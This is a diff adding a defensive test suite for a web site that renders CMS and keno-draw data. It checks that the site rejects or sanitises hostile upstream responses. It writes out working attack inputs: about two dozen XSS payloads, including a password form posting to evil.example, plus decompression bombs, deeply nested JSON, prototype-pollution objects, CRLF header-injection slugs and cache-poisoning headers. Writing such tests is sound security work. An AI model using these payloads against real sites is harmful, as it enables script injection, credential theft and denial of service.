@@ -1,0 +1,220 @@
+import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { type BadUpstream, type Manner, startBadUpstream } from '../../helpers/bad-upstream.ts';
+import { ask } from '../../helpers/http.ts';
+import { startPlatform, type TestPlatform } from '../../helpers/platform.ts';
+import { startSite, type TestSite } from '../../helpers/site.ts';
+import { startUpstreamProxy, type UpstreamProxy } from '../../helpers/upstream-proxy.ts';
+
+let platform: TestPlatform;
+let proxy: UpstreamProxy;
+let content: BadUpstream;
+let site: TestSite;
+
+beforeAll(async () => {
+  platform = await startPlatform({ now: new Date('2026-11-21T12:02:00Z'), historyDays: 8 });
+  await platform.deps.engine.tick();
+  proxy = await startUpstreamProxy(platform.url);
+  content = await startBadUpstream();
+  site = await startSite({
+    platform: proxy,
+    clock: platform.clock,
+    warm: false,
+    live: false,
+    env: { CMS_URL: content.origin },
+  });
+});
+beforeEach(async () => {
+  proxy.treat(() => 'pass');
+  await site.purge(['cms', 'games', 'results', 'upcoming'], { hard: true });
+});
+afterAll(async () => {
+  await site?.close();
+  await content?.stop();
+  await proxy?.close();
+  await platform?.stop();
+});
+
+const item = (changes: Record<string, unknown> = {}) => ({
+  slug: 'faq',
+  title: { rendered: 'Questions' },
+  content: { rendered: '<p>Answers.</p>' },
+  ...changes,
+});
+const page = (...items: unknown[]) => JSON.stringify({ isSuccess: true, cmsData: { jsonData: items } });
+/** So deep that whoever goes down into it by calling himself has no stack left. */
+const deep = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);
+const text = (body: string, headers?: Record<string, string>): Manner => ({
+  is: 'text',
+  text: body,
+  ...(headers ? { headers } : {}),
+});
+const rendered = (html: string): Manner => text(page(item({ content: { rendered: html } })));
+
+describe('content that is an attack', () => {
+  it.each<[string, Manner]>([
+    ['a list in a list a million times', text(deep(1_000_000))],
+    [
+      'the same where a fact belongs',
+      text(page(item({ meta: { a: 'DEEP' } })).replace('"DEEP"', deep(100_000))),
+    ],
+    ['more items than any list has', text(page(...Array.from({ length: 501 }, () => item())))],
+    ['a text longer than any', rendered('a'.repeat(500_001))],
+    ['an answer longer than any', rendered('a'.repeat(5_000_000))],
+    ['tags in tags without end', rendered('<b>'.repeat(150_000))],
+    [
+      'many texts of tags in tags',
+      text(page(...Array.from({ length: 60 }, () => item({ content: { rendered: '<b>'.repeat(4900) } })))),
+    ],
+    [
+      'headers without end',
+      text(
+        page(item()),
+        Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`x-${index}`, 'a'.repeat(300)])),
+      ),
+    ],
+    [
+      'another place',
+      { is: 'text', text: page(item()), status: 302, headers: { location: 'http://evil.example/' } },
+    ],
+    ['text in the place of JSON', text('<script>evil</script>')],
+  ])('is answered to nobody, and not kept: %s', async (_name, manner) => {
+    content.always(manner);
+    const answer = await ask(site.origin, '/faq');
+    expect(answer.status).toBe(503);
+    expect(answer.headers['cache-control']).toBe('no-store');
+    expect(answer.text).toContain('</html>');
+    expect(answer.text).not.toContain('evil');
+    expect((await ask(site.origin, '/robots.txt')).status).toBe(200);
+    content.always(text(page(item())));
+    const healed = await ask(site.origin, '/faq');
+    expect([healed.status, healed.text.includes('Answers.')]).toEqual([200, true]);
+  });
+
+  it.each([
+    ['gzip', gzipSync],
+    ['br', brotliCompressSync],
+    ['deflate', deflateSync],
+  ] as const)('is not unpacked, since nobody asked for it packed: %s', async (coding, pack) => {
+    // A few hundred bytes or kilobytes that would be 24 MB.
+    const bomb = pack(Buffer.from(page(item({ content: { rendered: ' '.repeat(24_000_000) } }))));
+    expect(bomb.length).toBeLessThan(100_000);
+    content.always({ is: 'text', text: bomb, headers: { 'content-encoding': coding } });
+    expect((await ask(site.origin, '/faq')).status).toBe(503);
+    expect(content.received.at(-1)?.headers['accept-encoding'] ?? 'identity').not.toMatch(
+      /gzip|br|deflate|\*/,
+    );
+    expect(site.logged()).toContain('no JSON');
+  });
+
+  it('cannot speak through headers: neither cookie nor rule nor place of its own reaches a reader', async () => {
+    content.always(
+      text(page(item()), {
+        'set-cookie': 'evil=1; Path=/',
+        'cache-control': 'public, max-age=31536000, immutable',
+        'cdn-cache-control': 'max-age=31536000',
+        'surrogate-control': 'max-age=31536000',
+        'cache-tag': 'evil',
+        etag: '"evil"',
+        vary: '*',
+        location: 'http://evil.example/',
+        'content-type': 'text/html; charset=utf-16',
+        'content-security-policy': "default-src 'unsafe-inline'",
+        'access-control-allow-origin': '*',
+        'x-evil': 'evil',
+      }),
+    );
+    for (let times = 0; times < 2; times++) {
+      const { status, headers } = await ask(site.origin, '/faq');
+      expect(status).toBe(200);
+      expect(JSON.stringify(headers)).not.toMatch(/evil|31536000|unsafe|utf-16/);
+      for (const name of ['set-cookie', 'location', 'access-control-allow-origin', 'surrogate-control'])
+        expect(headers).not.toHaveProperty(name);
+      expect(headers['vary']).toBe('Accept-Encoding');
+    }
+  });
+
+  it('reaches no prototype', async () => {
+    content.always(
+      text(
+        `{"__proto__":{"evil":1},"constructor":{"prototype":{"evil":1}},${page(
+          item({ meta: { evil: 'META' } }),
+        )
+          .slice(1)
+          .replace('"evil":"META"', '"__proto__":"evil","constructor":"evil","toString":"evil"')}`,
+      ),
+    );
+    expect((await ask(site.origin, '/faq')).status).toBe(200);
+    expect(Reflect.get({}, 'evil')).toBeUndefined();
+  });
+
+  it.each([
+    '<script>evil()</script>',
+    '<img src=x onerror=evil()>',
+    '<svg onload=evil()>',
+    '<a href="javascript:evil()">a</a>',
+    '<a href="java\tscript:evil()">a</a>',
+    '<a href="&#106;avascript:evil()">a</a>',
+    '<a href="data:text/html,<script>evil()</script>">a</a>',
+    '<a href="vbscript:evil()">a</a>',
+    '<iframe srcdoc="<script>evil()</script>"></iframe>',
+    '<form action="//evil.example"><input name=password></form>',
+    '<base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    '<link rel=stylesheet href="//evil.example/a.css">',
+    '<style>@import "//evil.example"</style>',
+    '<p style="background:url(//evil.example)">a</p>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=evil()>">',
+    '<textarea></textarea><img src=x onerror=evil()></textarea>',
+    '<img src="//evil.example/a.png">',
+    '<button formaction="javascript:evil()">a</button>',
+    '<details ontoggle=evil() open>a</details>',
+    '<<script>script>evil()<</script>/script>',
+    '</main></body><script src=//evil.example></script>',
+  ])('is shown without its teeth: %s', async (html) => {
+    content.always(rendered(`${html}<p>Answers.</p>`));
+    const answer = await ask(site.origin, '/faq');
+    expect(answer.status).toBe(200);
+    const [, main = ''] = /<main[^>]*>(.*)<\/main>/s.exec(answer.text) ?? [];
+    expect(main).not.toMatch(
+      /<(?:script|iframe|form|base|meta|link|style|svg|math|object|embed|textarea|noscript)\b/i,
+    );
+    expect(main).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc|formaction)\s*=/i);
+    expect(main).not.toMatch(/<[^>]*(?:href|src)="(?:\/\/evil|\s*(?:java|vb)script|data:)/i);
+    expect(answer.text.match(/<\/main>/g)).toHaveLength(1);
+  });
+});
+
+describe('a platform that is an attack', () => {
+  it('leaves out the record of a draw where that has no end, and answers the draw', async () => {
+    content.always({ is: 'answer', body: {}, status: 404 });
+    const { text: cards } = await ask(site.origin, '/results/latest.json');
+    const [, path = ''] = /"(\/results\/golden-keno\/\d+)"/.exec(cards) ?? [];
+    proxy.treat(({ url }) =>
+      url.endsWith('/draws/verify')
+        ? {
+            change: (body) =>
+              body.replace(/"drawParameters":\{/, `"drawParameters":{"evil":${deep(200_000)},`),
+          }
+        : 'pass',
+    );
+    const answer = await ask(site.origin, path);
+    expect(answer.status).toBe(200);
+    expect(answer.text).not.toContain('evil');
+    expect(answer.headers['cache-control']).toContain('s-maxage=5');
+  });
+
+  it('cannot lead readers away, nor speak through headers', async () => {
+    content.always({ is: 'answer', body: {}, status: 404 });
+    for (const slug of ['//evil.example', 'a\\r\\nset-cookie: evil=1', '../evil', 'javascript:evil']) {
+      proxy.treat(() => ({ change: (body) => body.replaceAll('"slug":"golden-keno"', `"slug":"${slug}"`) }));
+      await site.purge(['games'], { hard: true });
+      for (const path of ['/games', '/results/golden-keno']) {
+        const answer = await ask(site.origin, path);
+        expect(answer.status, `${slug} ${path}`).toBe(503);
+        expect(answer.text + JSON.stringify(answer.headers)).not.toContain('evil');
+      }
+    }
+  });
+});
